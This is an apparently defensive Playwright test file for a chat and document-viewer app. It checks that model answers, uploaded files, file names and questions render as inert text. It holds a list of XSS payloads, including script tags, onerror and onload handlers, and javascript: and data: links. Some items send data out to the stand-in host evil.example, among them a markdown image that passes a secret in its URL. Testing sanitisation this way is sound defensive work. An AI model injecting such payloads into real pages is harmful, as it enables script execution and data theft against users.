package io.tabletalk.page;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import io.tabletalk.chat.model.ScriptedServer;
import io.tabletalk.chat.model.WireFormat;
import io.tabletalk.testing.Browser;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.json.JsonMapper;

/// Nothing from a document or a model is ever run, loaded or followed.
class HostileContentIT extends PageServer {

    private static final List<String> PAYLOADS = List.of(
            "<script>globalThis.ran = 1</script>",
            "<img src=x onerror='globalThis.ran = 2'>",
            "<svg onload='globalThis.ran = 3'><script>globalThis.ran = 4</script></svg>",
            "<iframe srcdoc='<script>parent.ran = 5</script>'></iframe>",
            "<a href='javascript:globalThis.ran = 6'>press</a>",
            "[press](javascript:globalThis.ran=7)",
            "[press](data:text/html,<script>globalThis.ran=8</script>)",
            "![secret](https://evil.example/collect?secret=1)",
            "<style>* { background: url(https://evil.example/style) }</style>",
            "${globalThis.ran = 9}",
            "[1]: https://evil.example/definition");

    @Test
    void aModelsOutputIsOnlyEverText() {
        String answer = PAYLOADS.stream().map(payload -> payload + " [1]\n\n").collect(Collectors.joining());
        try (Browser browser = browser();
                ScriptedServer model = ScriptedServer.breakingAfter(
                        WireFormat.OLLAMA, WireFormat.OLLAMA.begun(List.of(answer, "The end.")))) {
            switchTo(model);
            Page page = browser.page();
            browser.ask("Which firmware must not be installed on the Mistral?");
            assertThat(page.locator("answer-text")).containsText("The end.");
            model.breakOff();
            assertThat(page.locator("answer-view footer")).isVisible();

            assertThat(page.locator("answer-text")).containsText("<script>globalThis.ran = 1</script>");
            assertThat(page.locator("answer-text :is(script, img, svg, iframe, style)"))
                    .hasCount(0);
            assertThat(page.locator("answer-text a[href^='javascript' i], answer-text a[href^='data' i]"))
                    .hasCount(0);
            assertUnharmed(browser);
        }
    }

    @Test
    void documentsTheirNamesAndTheirFieldsAreOnlyEverText() {
        String cell =
                PAYLOADS.stream().map(payload -> payload.replace("\"", "")).collect(Collectors.joining(" "));
        String csv = "name,<img src=x onerror=globalThis.ran=10>,text\n" + "\"<script>globalThis.ran = 11</script>\",\""
                + cell + "\",\"the zebracorn " + cell + "\"\n";
        try (Browser browser = browser().view("#/data")) {
            Page page = browser.page();
            DataPageIT.upload(page, "img src=x onerror=alert(1) 'zebracorn'.csv", csv);
            assertThat(page.locator("file-drop li")).containsText("1 document ready");
            page.getByText("open", new Page.GetByTextOptions().setExact(true)).click();
            page.getByText("Fields", new Page.GetByTextOptions().setExact(true)).click();
            assertThat(page.locator("schema-preview td").first()).isVisible();
            assertThat(page.locator("source-page")
                            .getByText("onerror=globalThis.ran=10")
                            .first())
                    .isVisible();

            browser.view("#/chat");
            browser.ask("zebracorn");
            assertThat(page.locator("answer-view footer")).isVisible();
            page.locator("answer-view .strip button", new Page.LocatorOptions().setHasText("ran = 11"))
                    .click();
            assertThat(page.locator("passage-card[chosen]")).containsText("<script>globalThis.ran = 11</script>");

            assertThat(page.locator("passage-card :is(script, img, iframe, style)"))
                    .hasCount(0);
            assertUnharmed(browser);
        }
    }

    @Test
    void documentsAreOnlyEverTextInTheViewersOfTheirKinds() {
        String all = String.join("\n\n", PAYLOADS);
        String json = JsonMapper.shared()
                .writeValueAsString(List.of(
                        Map.of("<img src=x onerror=globalThis.ran=14>", Map.of("inner", all), "name", "quaggafish")));
        try (Browser browser = browser().view("#/data")) {
            Page page = browser.page();
            lookAt(page, "quaggafish.md", "# <img src=x onerror=globalThis.ran=15>\n\n" + all);
            lookAt(page, "quaggafish.json", json);
            lookAt(page, "quaggafish.txt", all);
            lookAt(page, "quaggafish.csv", "name,text\nquaggafish,\"" + all.replace("\"", "") + "\"\n");
            assertUnharmed(browser);
        }
    }

    private static void lookAt(Page page, String file, String content) {
        page.navigate(page.url().replaceAll("#.*", "#/data"));
        DataPageIT.upload(page, file, content);
        assertThat(page.locator("file-drop li").first()).containsText("1 document ready");
        page.locator("file-drop")
                .getByText("open", new Locator.GetByTextOptions().setExact(true))
                .first()
                .click();
        page.getByText("Documents", new Page.GetByTextOptions().setExact(true)).click();
        page.locator("document-list tbody a").first().click();
        assertThat(page.locator("document-viewer .body")).containsText("<script>globalThis.ran = 1</script>");
        assertThat(page.locator("document-viewer .body :is(script, img, iframe, style)"))
                .hasCount(0);
        assertThat(page.locator("document-viewer :is(a[href^='javascript' i], a[href^='data' i])"))
                .hasCount(0);
    }

    @Test
    void aQuestionIsOnlyEverTextAndAFileNameThatNoSystemTakesIsRefused() {
        try (Browser browser = browser()) {
            Page page = browser.page();
            DataPageIT.upload(page, "<img src=x onerror=globalThis.ran=12>.csv", "a,b\n1,2\n");
            assertThat(page.locator("file-drop li .problem")).containsText("another name");
            browser.ask("<img src=x onerror='globalThis.ran = 13'>");

            assertThat(page.locator(".question")).containsText("<img src=x");
            assertThat(page.locator("conversation-list a")).containsText("<img src=x");
            assertThat(page.evaluate("globalThis.ran")).isNull();
        }
    }

    private static void assertUnharmed(Browser browser) {
        assertThat(browser.page().evaluate("globalThis.ran")).isNull();
        assertThat(browser.problems()).isEmpty();
    }
}
